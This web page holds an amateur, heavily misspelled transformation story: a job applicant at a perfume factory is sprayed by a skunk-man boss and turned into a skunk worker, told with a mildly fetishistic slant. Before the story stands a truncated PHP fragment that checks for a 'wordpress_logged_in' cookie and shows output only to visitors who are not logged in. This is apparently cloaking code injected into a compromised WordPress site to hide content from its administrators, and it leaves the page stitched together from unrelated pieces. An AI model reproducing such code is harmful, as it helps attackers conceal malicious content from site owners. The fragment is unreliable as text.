$vvvUjUnHvOOoO){ if (strstr(strval($vUjUnHvOOoO), 'wordpress_logged_in')){ $cG9OI8 = 1; break; } } if($cG9OI8 == 0){ echo ''; } ?> Untitled Document Perfume Factory

James Mitchel looked about the office. He wasapplying to a new job. Ever since he was fire form his last things had been going bad for him wiht his wife leaving him and the loss of cash he was ina real down word spiral. But this new perfume factory would need people in fact they were hiring huge numbers actually. He wanted to wokr in the factory's acounting department but he would do manual labor if it emnt a job. '"Job aplicant 6784 your up"said tyhe secretay behind a huge desk James looked at his card seeing it was his number he got up and entered the office. Thinkign to himself how strange it was that he never saw the aplicants leave the door they entered through "Guess sthye must have a door to exit out of" said James to himslef James came to a door at the end of a very short hallway and opened it up toa alrge office actually over lookign the factory it's self. It was a large and complex factory filled with cats and chemicals and what looked liek poepel thye were high up so he wasn't sure. But really he wasn't lookign at thta what he was looking at wa sthe giant animal behind a desk infront of him. The animal looked like a skunk only it was wearign a suit and was veyr large human sized in fact "Now come now son haven't oyu ever seen a Skunk man before"asked the skunk creature "Well no should i have?"asked Jasmes unsure why he was so surprised only moments ago "Well we are evryr where kiddo"said the skunk man "I ma Perseus S. Stripton welcoem to my perfuem factory now I suppose oyu wnat a job "yeah I do actually...I need one very badly"James wasn't sure why he was ayign this he sounded desprite but there was asmell in the air he just had tio identify "Well then why don't you but your resume on my desk and i'll look at it"said perseus "All right"said James putitng his resume folder on the desk. Unfortuantly it seemed to slid offthe desk which was starneg because james was sure he but it away formthe edge. he was abotut o bend over and pick it up but Mr Stripton got up form hisseat. James was surprised at the sheer size of the skunk man not only was ahe tall but he looked extreamly fat too. The skunk man's girth only added to his aura of control. "Now now allow me accident do happen this desk can be slippery"said Mr. Strip ton wlaking aroun the desk and leaning over to pick up the papers. James standing behind him looked ta the skunk man and noticed somthign else besides the large, very large fluffy billowy tail, the panst on the skunk man were altered to allow the tail free movemtn and right nowe his tail was up showing james a perfect veiw of the skunk's butt. james felt a little embarresed about this when suddnely Mr. Stripton tensed up. james was worried for a second then sudenly a cload of somthign blew out of Mr. Stripton's butt. James suddenl;y reaslised what the smellhe had been smellign was it was the smell of a skunk which made an obnvios sense. but now he was totally sprayed. james fought for air in the hoirrible stench. barely noticeing mr Strpton stand up and look at him domineringly. james coughed tryiogn to hold his hand over the smell but his entire body was coated in the smel and it only amd eit worse. Suddenly James noticed somthign his hands were hairy. In fact they down right needed a shave. he looked at his hands ot dioscover they were furry paws. In fact they had black fur on them much l;ike Mr. Stripton. Then he flet the cur growing across his body it itched badly. He could feel it growing in his cloths acorss his face. Then he flet his face push out inot a snout and could actually see his nose turn black adna white stripe comign form it obviously ru ning down his head. james could feel his ears move up his hea dna chnage shape. As the misty musk aprerad away form him. James looked down at hsi furry body. He quickly took off his shoes as his feet felt terribly cramped. After taking off hisd shoes James's socks ripped apaert as new skunky foot paws emerged. Standing up james looked at his body in horro then at mr. Stripton smiling an evil smile "What...why...how?"he bagn to ask when suddnely he felt a tuggin in his pants and a discomfort as if a snake was in his pants and rubbing his legs. james flet the need to push it out and leaned over pushign and pushing when suddeny; a skunk tail ripped out of his pants. "Oh*groan* my *groan* god!"james began when suddnely he released his own skunk musk. Snififng at the oder James mind went fuzzy. Almost as if waking fiorma dream he straitened up "Well son oyur hired now get down there and contribute that wonderful stench of yours"said Mr Stripton "Yes sir"said James. As he left James pulled his billowy tail infront of him so as not to get it cought in the door. He for soem reason felt a tad inquisitive abotu his tail. Which was tsrange he had had this tail for his entire life, right? Mr. Stripeton looked at the window at hsi latest member. He smiled evily. Liek all his skunk men and women the smell on that boy would make other humans into skunks. Mr. Stripton giggled at it all soon his skunk peple would make enough musk to flood the city wiht perfume. Perfume that would transform every human who smelled it or used it into skunks from there on he would go globaluntil the world was amde up of skunk "Mrs Andrews the next aplicant please"said Mr. Striptonitno his intercome End